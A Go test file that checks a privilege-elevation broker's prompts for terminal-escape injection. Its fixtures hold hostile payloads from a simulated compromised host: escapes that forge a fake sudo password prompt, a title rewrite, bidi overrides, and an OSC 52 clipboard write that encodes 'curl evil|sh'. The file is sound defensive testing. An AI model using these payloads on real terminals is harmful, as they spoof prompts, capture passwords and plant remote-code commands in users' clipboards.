package desktop

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/godbus/dbus/v5"

	"ollie/broker"
	"ollie/internal/termsafe"
)

// The escapes a compromised host put in its requests' fields (issue 11):
// cursor moves and line erases that rewrote the broker's screen to show
// another host's request, the terminal's title (OSC 0), the clipboard
// (OSC 52), a DCS, an 8-bit CSI (the rune and the lone byte), BEL,
// backspace, CR, DEL, a bidi override, and newlines that add lines.
const (
	forgedScreen = "\x1b[3A\x1b[2K\x1b[1Gollie: h5 asks to run as root (sudo)\n\x1b[2Ksudo password for h5: "
	forgedTitle  = "\x1b]0;h5 (all good)\a"
	forgedClip   = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"
	forgedDCS    = "\x1bP+q544e\x1b\\"
	eightBitCSI  = "\u009b2J\x9b1A"
)

func hostileRequest(sudo bool) *broker.Request {
	return &broker.Request{
		ID:          "req-\x1b[2K1",
		Host:        "db3", // what the desktop knows from the connection
		Session:     "s1" + forgedTitle + "\r\n  session:  trusted",
		Agent:       "ops\b\b\bh5\x7f",
		SessionName: "web" + forgedClip + "\n  agent:    trusted",
		AgentName:   "fixer" + forgedScreen,
		Tool:        "system_logs" + forgedScreen,
		Executable:  "/usr/bin/dmesg" + forgedClip + "\u202egnp.exe",
		Args:        json.RawMessage(`{"lines":"10\u009b2J` + "\u009b" + `\u001b[1A","x":"` + strings.Repeat("y", 2000) + `"}`),
		Cwd:         "/home/ops" + forgedDCS + eightBitCSI + "\n\n",
		Sudo:        sudo,
	}
}

// hostileProblem is the reason the host gives for asking the password again.
const hostileProblem = "wrong password\x1b[2K\rollie: sudo password for h5 (asked by h5): "

// controlIn says what in s could act on a terminal rather than be shown,
// or "" when nothing does. keepNL allows the newlines the desktop writes
// between the prompt's lines.
func controlIn(s string, keepNL bool) string {
	if !utf8.ValidString(s) {
		return fmt.Sprintf("invalid UTF-8 in %q", s)
	}
	for i, r := range s {
		switch {
		case r == '\n' && keepNL:
		case r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f:
			return fmt.Sprintf("control %U at byte %d of %q", r, i, s)
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return fmt.Sprintf("bidi control %U at byte %d of %q", r, i, s)
		}
	}
	return ""
}

// checkPrompt checks the elevation prompt of a hostile request: no
// control the host sent, no line the host added, and the first line the
// desktop's own, naming the connection's host.
func checkPrompt(t *testing.T, where, prompt string, sudo bool) {
	t.Helper()
	if p := controlIn(prompt, true); p != "" {
		t.Errorf("%s: %s", where, p)
	}
	honest := askRequest(sudo).Prompt()
	if got, want := strings.Count(strings.TrimRight(prompt, "\n"), "\n"), strings.Count(strings.TrimRight(honest, "\n"), "\n"); got != want {
		t.Errorf("%s: %d lines, the honest request's prompt %d: the host added lines:\n%s", where, got+1, want+1, prompt)
	}
	first, _, _ := strings.Cut(prompt, "\n")
	want := "ollie: db3 asks to run outside its sandbox"
	if sudo {
		want = "ollie: db3 asks to run as root (sudo)"
	}
	if first != want {
		t.Errorf("%s: first line %q, want %q", where, first, want)
	}
	// Every text of the host's is quoted: outside the quotes, the host
	// named is the connection's, and none the host wrote.
	if own := termsafe.Unquoted(prompt); strings.Contains(own, "h5") || !strings.Contains(own, "  db3 says:\n") {
		t.Errorf("%s: outside its quotes, the prompt names h5, or does not attribute the host's words to db3:\n%s", where, prompt)
	}
	for _, line := range strings.Split(prompt, "\n") {
		if len(line) > 500 {
			t.Errorf("%s: a line of %d bytes: the host's fields are not clipped", where, len(line))
		}
	}
}

// checkPasswordPrompt checks the credential prompt: one line, naming the
// connection's host first and last.
func checkPasswordPrompt(t *testing.T, where, prompt string) {
	t.Helper()
	if p := controlIn(prompt, false); p != "" {
		t.Errorf("%s: %s", where, p)
	}
	if !strings.HasPrefix(prompt, "ollie: sudo password for root on db3, to run ") || !strings.HasSuffix(prompt, " (asked by db3): ") {
		t.Errorf("%s: %q does not name db3 at its start and its end", where, prompt)
	}
	if own := termsafe.Unquoted(prompt); strings.Contains(own, "h5") {
		t.Errorf("%s: %q names h5 outside its quotes", where, prompt)
	}
}

func TestPromptHostileFields(t *testing.T) {
	for _, sudo := range []bool{false, true} {
		checkPrompt(t, "Prompt", hostileRequest(sudo).Prompt(), sudo)
	}
	checkPasswordPrompt(t, "PasswordPrompt", hostileRequest(true).PasswordPrompt(2, hostileProblem))
	checkPasswordPrompt(t, "PasswordPrompt", hostileRequest(true).PasswordPrompt(1, ""))
	honest := askRequest(true).PasswordPrompt(2, "wrong password")
	if want := `ollie: sudo password for root on db3, to run system_logs; db3 says "wrong password", attempt 2 of 3 (asked by db3): `; honest != want {
		t.Errorf("PasswordPrompt = %q, want %q", honest, want)
	}
	r := hostileRequest(true)
	r.Host = ""
	if first, _, _ := strings.Cut(r.Prompt(), "\n"); first != "ollie: (unknown host) asks to run as root (sudo)" {
		t.Errorf("no host: %q", first)
	}
}

// TestAskpassHostile: the argument askpass gets carries no control
// character of the host's, in either gate.
func TestAskpassHostile(t *testing.T) {
	dir := t.TempDir()
	rec := filepath.Join(dir, "arg")
	prog := scriptFile(t, dir, "askpass", `printf '%s' "$1" > "`+rec+`"; echo hunter2`)
	a := &AskpassApprover{Program: prog}
	req := hostileRequest(true)
	if _, err := a.Approve(context.Background(), req); err != nil {
		t.Fatal(err)
	}
	checkPrompt(t, "askpass confirm", fileText(t, rec), true)
	pw, err := a.Password(context.Background(), req, 2, hostileProblem)
	if err != nil {
		t.Fatal(err)
	}
	broker.Zero(pw)
	checkPasswordPrompt(t, "askpass password", fileText(t, rec))
}

// TestDialogHostile: zenity's and kdialog's arguments carry no control
// character of the host's; the title, which the host's text never
// reaches, names the connection's host.
func TestDialogHostile(t *testing.T) {
	for _, kind := range []string{"zenity", "kdialog"} {
		f := newFakeDialog(t, kind)
		d := &DialogApprover{Program: kind}
		req := hostileRequest(true)
		f.setAnswer("2", "")
		if _, err := d.Approve(context.Background(), req); err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		argv := f.argv()
		checkArgs(t, kind, argv)
		text, _ := after(argv, "--text")
		if kind == "kdialog" {
			text, _ = after(argv, "--warningyesnocancel")
			text = strings.TrimSuffix(strings.TrimPrefix(text, "<qt><pre>"), "</pre></qt>") + "\n"
		}
		checkPrompt(t, kind+" question", text, true)

		f.setAnswer("0", "hunter2\n")
		pw, err := d.Password(context.Background(), req, 2, hostileProblem)
		if err != nil {
			t.Fatalf("%s password: %v", kind, err)
		}
		broker.Zero(pw)
		checkArgs(t, kind+" password", f.argv())
	}
}

func checkArgs(t *testing.T, where string, argv []string) {
	t.Helper()
	for _, a := range argv {
		if p := controlIn(a, true); p != "" {
			t.Errorf("%s argument: %s", where, p)
		}
	}
	if title, _ := after(argv, "--title"); title != "ollie: request from db3" {
		t.Errorf("%s: title %q, want the connection's host", where, title)
	}
}

// TestNotifyHostile: the desktop notification's summary and body carry no
// control character of the host's either.
func TestNotifyHostile(t *testing.T) {
	addr := startSessionBus(t)
	conn, err := dbus.Connect(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	srv := &notifyServer{}
	if err := conn.Export(srv, notifyPath, notifyIface); err != nil {
		t.Fatal(err)
	}
	if reply, err := conn.RequestName(notifyDest, dbus.NameFlagDoNotQueue); err != nil || reply != dbus.RequestNameReplyPrimaryOwner {
		t.Fatalf("owning %s: %v %v", notifyDest, reply, err)
	}
	f := newFakeDialog(t, "zenity")
	f.setAnswer("1", "")
	d := &DialogApprover{Program: f.path, Notifier: &Notifier{Address: addr}}
	if _, err := d.Approve(context.Background(), hostileRequest(true)); err != nil {
		t.Fatal(err)
	}
	srv.mu.Lock()
	defer srv.mu.Unlock()
	if len(srv.notes) != 1 {
		t.Fatalf("%d notifications, want 1", len(srv.notes))
	}
	if p := controlIn(srv.notes[0][0], false); p != "" {
		t.Errorf("summary: %s", p)
	}
	if !strings.HasPrefix(srv.notes[0][0], "ollie: db3 asks to run ") {
		t.Errorf("summary %q does not start with the connection's host", srv.notes[0][0])
	}
	if p := controlIn(srv.notes[0][1], true); p != "" {
		t.Errorf("body: %s", p)
	}
}

// TestTerminalHostile: what the terminal approver writes carries no
// control character of the host's. (cmd/ollie-remote's
// TestTerminalBrokerHostile reads the screen of ollie-remote broker on a
// pty.)
func TestTerminalHostile(t *testing.T) {
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	defer w.Close()
	var out strings.Builder
	a := &TerminalApprover{In: r, Out: &out}
	w.Write([]byte("x\nd\n"))
	if ans, err := a.Approve(context.Background(), hostileRequest(true)); err != nil || ans.Decision != broker.Deny {
		t.Fatalf("%+v %v", ans, err)
	}
	if p := controlIn(out.String(), true); p != "" {
		t.Errorf("terminal: %s", p)
	}
	if !strings.HasPrefix(out.String(), "\nollie: db3 asks to run as root (sudo)\n") {
		t.Errorf("the terminal's first line is not the desktop's:\n%s", out.String())
	}
}
